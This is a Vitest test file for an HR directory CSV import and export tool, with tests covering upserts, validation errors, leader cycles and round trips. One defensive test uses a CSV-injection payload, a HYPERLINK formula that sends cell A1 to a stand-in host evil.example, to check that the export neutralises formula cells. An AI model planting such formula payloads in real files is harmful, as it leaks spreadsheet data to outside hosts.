import { readFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createTempDb, type TempDb } from "../helpers/tempDb.js";
import { importDirectory } from "../../src/app/directory/importDirectory.js";
import { exportDirectory } from "../../src/app/directory/exportDirectory.js";
import { UserError } from "../../src/app/errors.js";

const HEADER = "email,name,leader_email,locale,jurisdiction,timezone,slack_user_id,teams_user_id";
const GOOD = [
  HEADER,
  "kari@firma.no,Kari Nordmann,,nb,NO,Europe/Oslo,U0KARI,",
  "ola@firma.no,Ola Nordmann,kari@firma.no,nb,NO,,U0OLA,29:ola",
  "sven@firma.se,Sven Svensson,kari@firma.no,sv,SE,Europe/Stockholm,,",
  "mette@firma.dk,Mette Hansen,ola@firma.no,da,DK,Europe/Copenhagen,,",
].join("\n");

const opts = { defaultTimeZone: "Europe/Oslo" };

async function problemsOf(db: TempDb, csv: string) {
  try {
    await importDirectory(db.db, csv, opts);
  } catch (error) {
    expect(error).toBeInstanceOf(UserError);
    return (error as UserError).problems;
  }
  throw new Error("expected the import to be rejected");
}

describe("directory import", () => {
  let db: TempDb;
  beforeEach(async () => {
    db = await createTempDb();
  });
  afterEach(async () => db.dispose());

  it("imports the README's example directory (examples/people.csv): a leader, her employee, HR and ARR", async () => {
    const text = readFileSync(new URL("../../examples/people.csv", import.meta.url), "utf8");
    expect(await importDirectory(db.db, text, opts)).toMatchObject({ created: 4, total: 4 });
    const anne = await db.db.person.findUniqueOrThrow({ where: { email: "anne@firma.no" }, include: { leader: true } });
    expect(anne.leader?.email).toBe("lise@firma.no");
    expect((await db.db.person.findUniqueOrThrow({ where: { email: "hanne@firma.no" } })).roles).toBe("hr");
    expect((await db.db.person.findUniqueOrThrow({ where: { email: "arne@firma.no" } })).roles).toBe("arr");
  });

  it("imports a good file, leaders may come after their reports, defaults apply", async () => {
    const reordered = [HEADER, "mette@firma.dk,Mette Hansen,ola@firma.no,da,DK,,,", "ola@firma.no,Ola Nordmann,kari@firma.no,,,,,", "kari@firma.no,Kari Nordmann,,,,,,"].join("\n");
    const summary = await importDirectory(db.db, reordered, opts);
    expect(summary).toEqual({ created: 3, updated: 0, unchanged: 0, total: 3 });
    const mette = await db.db.person.findUniqueOrThrow({ where: { email: "mette@firma.dk" }, include: { leader: true } });
    expect(mette.leader?.email).toBe("ola@firma.no");
    expect(mette.jurisdiction).toBe("DK");
    const ola = await db.db.person.findUniqueOrThrow({ where: { email: "ola@firma.no" } });
    expect(ola.jurisdiction).toBe("NO");
    // A blank locale column: no language of their own (src/app/locale.ts picks one).
    expect(ola.locale).toBeNull();
    expect(ola.timeZone).toBe("Europe/Oslo");
  });

  it("upserts by e-mail: a second import updates and counts unchanged rows", async () => {
    await importDirectory(db.db, GOOD, opts);
    const changed = GOOD.replace("Ola Nordmann,kari@firma.no", "Ola Nordmann,sven@firma.se").replace("KARI", "KARI2");
    const summary = await importDirectory(db.db, changed, opts);
    expect(summary).toEqual({ created: 0, updated: 2, unchanged: 2, total: 4 });
    const ola = await db.db.person.findUniqueOrThrow({ where: { email: "ola@firma.no" }, include: { leader: true } });
    expect(ola.leader?.email).toBe("sven@firma.se");
    expect(await db.db.person.count()).toBe(4);
  });

  it("lets two people swap Slack ids in one import", async () => {
    await importDirectory(db.db, GOOD, opts);
    const swapped = GOOD.replace("U0KARI", "TMP").replace("U0OLA", "U0KARI").replace("TMP", "U0OLA");
    await importDirectory(db.db, swapped, opts);
    const kari = await db.db.person.findUniqueOrThrow({ where: { email: "kari@firma.no" } });
    expect(kari.slackUserId).toBe("U0OLA");
  });

  it("lists every bad row with its line number and changes nothing", async () => {
    await importDirectory(db.db, GOOD, opts);
    const before = await exportDirectory(db.db);
    const bad = [
      HEADER,
      "not-an-email,Nobody,,nb,NO,,,", // line 2: bad e-mail
      "per@firma.no,Per,ghost@firma.no,nb,NO,,,", // line 3: unknown leader
      "lise@firma.no,Lise,,nb,FI,,,", // line 4: unknown jurisdiction
      "a@firma.no,A,b@firma.no,nb,NO,,,", // line 5: cycle a → b → a
      "b@firma.no,B,a@firma.no,nb,NO,,,", // line 6: cycle
      "tz@firma.no,TZ,,nb,NO,Mars/Olympus,,", // line 7: bad time zone
      "per@firma.no,Per again,,nb,NO,,,", // line 8: duplicate e-mail (line 3)
      "self@firma.no,Self,self@firma.no,nb,NO,,,", // line 9: own leader
      "lang@firma.no,Lang,,xx,NO,,,", // line 10: unknown locale
      "ok@firma.no,OK,kari@firma.no,nb,NO,,,", // fine on its own
    ].join("\n");
    const problems = await problemsOf(db, bad);
    const byLine = (line: number) => problems.filter((p) => p.line === line).map((p) => p.key);
    expect(byLine(2)).toContain("cli:directory.errors.badEmail");
    expect(byLine(3)).toContain("cli:directory.errors.unknownLeader");
    expect(byLine(4)).toContain("cli:directory.errors.badJurisdiction");
    expect(byLine(7)).toContain("cli:directory.errors.badTimeZone");
    expect(byLine(8)).toContain("cli:directory.errors.duplicateEmail");
    expect(byLine(5)).toContain("cli:directory.errors.leaderCycle");
    expect(byLine(6)).toContain("cli:directory.errors.leaderCycle");
    expect(byLine(11)).toEqual([]);
    expect(byLine(9)).toContain("cli:directory.errors.ownLeader");
    expect(byLine(10)).toContain("cli:directory.errors.badLocale");
    expect(problems.map((p) => p.line)).toEqual([...problems.map((p) => p.line)].sort((a, b) => (a ?? 0) - (b ?? 0)));
    // Row-level problems are reported before cross-row checks run, so fix those first:
    expect(await exportDirectory(db.db)).toBe(before);
  });

  it("rejects a leader cycle through people already in the directory", async () => {
    await importDirectory(db.db, GOOD, opts);
    // kari → mette → ola → kari
    const problems = await problemsOf(db, [HEADER, "kari@firma.no,Kari Nordmann,mette@firma.dk,nb,NO,,U0KARI,"].join("\n"));
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ line: 2, key: "cli:directory.errors.leaderCycle" });
    expect(String(problems[0]!.params!.cycle)).toContain("mette@firma.dk");
    const kari = await db.db.person.findUniqueOrThrow({ where: { email: "kari@firma.no" } });
    expect(kari.leaderId).toBeNull();
  });

  it("rejects a Slack id that belongs to someone else", async () => {
    await importDirectory(db.db, GOOD, opts);
    const problems = await problemsOf(db, [HEADER, "new@firma.no,New,,nb,NO,,U0OLA,"].join("\n"));
    expect(problems[0]).toMatchObject({ line: 2, key: "cli:directory.errors.idTaken" });
  });

  it("rejects a file without the required header", async () => {
    const problems = await problemsOf(db, "mail,name\nx@y.no,X");
    expect(problems[0]?.key).toBe("cli:directory.errors.header");
  });

  it("exports what it imported, in the same format (round trip)", async () => {
    await importDirectory(db.db, GOOD, opts);
    const csv = await exportDirectory(db.db);
    const lines = csv.trim().split("\n");
    expect(lines[0]).toBe(HEADER);
    expect(lines).toContain("ola@firma.no,Ola Nordmann,kari@firma.no,nb,NO,Europe/Oslo,U0OLA,29:ola");
    const second = await createTempDb();
    try {
      // The people must be imported leaders-first-or-not: the importer handles both.
      await importDirectory(second.db, csv, opts);
      expect(await exportDirectory(second.db)).toBe(csv);
    } finally {
      await second.dispose();
    }
  });

  it("keeps HR roles through the optional roles column", async () => {
    await importDirectory(db.db, "email,name,leader_email,roles\nhr@firma.no,HR,,hr\n", opts);
    const hr = await db.db.person.findUniqueOrThrow({ where: { email: "hr@firma.no" } });
    expect(hr.roles).toBe("hr");
    // No locale column: no language of their own, exported blank (not a bokmål they never chose).
    expect(await exportDirectory(db.db)).toContain("hr@firma.no,HR,,,NO,Europe/Oslo,,,hr");
  });

  // Issue 10: the export is opened in Excel by HR; a name is attacker-controlled text.
  it("neutralises formula cells on export (CSV injection) and takes the quote off again on import", async () => {
    const evil = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")';
    const csvIn = [
      HEADER,
      `kari@firma.no,"${evil.replaceAll('"', '""')}",,nb,NO,Europe/Oslo,@U0KARI,`,
      "ola@firma.no,+47 Ola,kari@firma.no,nb,NO,,-U0OLA,",
    ].join("\n");
    await importDirectory(db.db, csvIn, opts);
    expect((await db.db.person.findUniqueOrThrow({ where: { email: "kari@firma.no" } })).name).toBe(evil);
    const csv = await exportDirectory(db.db);
    const { parse } = await import("csv-parse/sync");
    const cells = (parse(csv) as string[][]).flat();
    // No cell a spreadsheet would run as a formula.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${evil}`);
    expect(cells).toContain("'+47 Ola");
    expect(cells).toContain("'@U0KARI");
    expect(cells).toContain("'-U0OLA");
    // The round trip is stable: importing our own export changes nothing.
    const second = await createTempDb();
    try {
      await importDirectory(second.db, csv, opts);
      expect((await second.db.person.findUniqueOrThrow({ where: { email: "kari@firma.no" } })).name).toBe(evil);
      expect((await second.db.person.findUniqueOrThrow({ where: { email: "ola@firma.no" } })).slackUserId).toBe("-U0OLA");
      expect(await exportDirectory(second.db)).toBe(csv);
    } finally {
      await second.dispose();
    }
    expect(await importDirectory(db.db, csv, opts)).toMatchObject({ unchanged: 2, updated: 0, created: 0 });
  });

  it("refuses NUL and other control characters, and over-long names and e-mails, with the line number", async () => {
    const long = "A".repeat(100_000);
    const csv = [
      HEADER,
      "kari@firma.no,Kari Nordmann,,nb,NO,,,",
      "nul@firma.no,Nul\u0000Person,kari@firma.no,nb,NO,,,",
      `lang@firma.no,${long},kari@firma.no,nb,NO,,,`,
      `${"x".repeat(250)}@firma.no,Lang Adresse,kari@firma.no,nb,NO,,,`,
      "bidi@firma.no,Anne\u202eredeL,kari@firma.no,nb,NO,,,",
      "bell@firma.no,Bell,kari@firma.no,nb,NO,,U0\u0007,",
    ].join("\n");
    const problems = await problemsOf(db, csv);
    expect(problems.map((p) => [p.line, p.field, p.key])).toEqual([
      [3, "name", "access:directory.controlCharacters"],
      [4, "name", "access:directory.tooLong"],
      [5, "email", "access:directory.tooLong"],
      [6, "name", "access:directory.controlCharacters"],
      [7, "slack_user_id", "access:directory.controlCharacters"],
    ]);
    expect(problems[1]!.params).toEqual({ max: 200, length: 100_000 });
    expect(await db.db.person.count()).toBe(0);
  });
});
